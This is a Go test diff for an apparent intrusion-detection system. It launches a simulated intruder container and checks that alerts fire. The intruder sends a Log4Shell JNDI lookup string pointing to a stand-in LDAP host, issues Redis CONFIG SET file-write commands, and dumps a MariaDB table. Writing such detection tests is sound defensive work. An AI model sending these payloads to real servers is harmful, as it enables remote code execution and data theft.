@@ -153,16 +153,21 @@ func (s *e2eSystem) expectOtherProtocols(transactions int) {
 func (s *e2eSystem) testAlerts(t *testing.T) {
 	s = s.withTest(t)
 	address := func(server string) string { return s.containerAddress(server, "bridge", "4") }
-	web, cache, dns := address("web"), address("cache"), address("dns")
+	web, cache, db, dns := address("web"), address("cache"), address("db"), address("dns")
 	s.runContainer("--name", "intruder", "--", "bash", "-c", fmt.Sprintf(
 		`curl -s -A '${jndi:ldap://192.0.2.66/a}' http://%s:8080/x
 redis-cli -h %s CONFIG SET dir /tmp
 redis-cli -h %s CONFIG SET dbfilename x
-true`, web, cache, cache))
+mariadb -h %s -u root -e 'CREATE DATABASE shop; CREATE TABLE shop.items (id INT, name TEXT); INSERT INTO shop.items VALUES (1, "a")'
+mariadb-dump -h %s -u root shop items >/dev/null
+true`, web, cache, cache, db, db))
 	for _, name := range []string{"www.bad.e2e.example", "xjq7kvw2zt9hpb4m.e2e.example", "xjq7kvw2zt9hpb4m.example"} {
 		s.runClient(workload{Case: "lookup", Transactions: 1, DNS: dns + ":53", QueryName: name}, "--rm")
 	}
 
+	for _, rule := range []string{"http-log4shell", "redis-config-write-path", "mysql-dump"} { // by the real tools
+		s.expectRows("alert of "+rule, fmt.Sprintf("SELECT count() > 0 FROM alerts WHERE rule = '%s'", rule), "1")
+	}
 	for _, detector := range []string{"rules", "feeds", "classifier"} {
 		s.expectRows("alert of "+detector,
 			fmt.Sprintf("SELECT count() > 0 FROM alerts WHERE detector = '%s'", detector), "1")
